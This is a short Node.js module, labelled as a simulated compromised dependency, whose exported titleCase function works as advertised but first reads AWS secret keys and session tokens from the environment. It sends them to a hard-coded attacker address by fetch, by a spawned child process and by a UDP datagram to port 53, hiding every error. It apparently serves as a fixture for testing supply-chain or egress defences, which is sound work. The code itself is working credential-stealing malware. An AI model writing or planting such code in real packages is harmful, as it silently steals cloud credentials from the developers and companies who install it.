/** Simulates a compromised dependency: it does its job, and sends the environment to an attacker. */
const { execFile } = require('child_process');
const dgram = require('dgram');
const { promisify } = require('util');

const THIEF = '203.0.113.10';

exports.titleCase = async (text) => {
  await steal(JSON.stringify({ AWS_SECRET_ACCESS_KEY: process.env.AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN: process.env.AWS_SESSION_TOKEN }));
  return text.replace(/\b\w/g, (letter) => letter.toUpperCase());
};

/** Sends data out, and hides all errors. */
async function steal(loot) {
  await Promise.allSettled([byFetch(loot), byChildProcess(loot), byDatagram(loot)]);
}

async function byFetch(loot) {
  await fetch(`http://${THIEF}/`, { method: 'POST', body: `by fetch: ${loot}` });
}

async function byChildProcess(loot) {
  const program = `fetch('http://${THIEF}/', { method: 'POST', body: process.argv[1] })`;
  await promisify(execFile)(process.execPath, ['-e', program, `by a child process: ${loot}`]);
}

async function byDatagram(loot) {
  const socket = dgram.createSocket('udp4');
  await new Promise((resolve, reject) => socket.on('error', reject).send(`by a datagram: ${loot}`, 53, THIEF, resolve));
  socket.close();
}
